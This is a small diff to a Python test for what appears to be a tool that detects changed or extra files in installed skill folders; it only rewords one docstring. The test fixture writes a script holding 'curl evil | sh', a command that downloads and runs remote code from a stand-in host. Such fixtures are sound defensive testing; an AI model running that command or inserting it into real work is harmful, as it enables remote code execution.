@@ -104,7 +104,7 @@ def test_what_is_not_installed_is_not_judged(main_file: Path, tmp_path: Path) ->
 
 
 def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) -> None:
-    """It would make a project of its own of that folder, in which nothing is installed."""
+    """It would turn that folder into a separate project, in which nothing is installed."""
     (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
     (main_file.parent / "rye.toml").touch()
     found = "b.sh (changed), rye.toml (extra)"
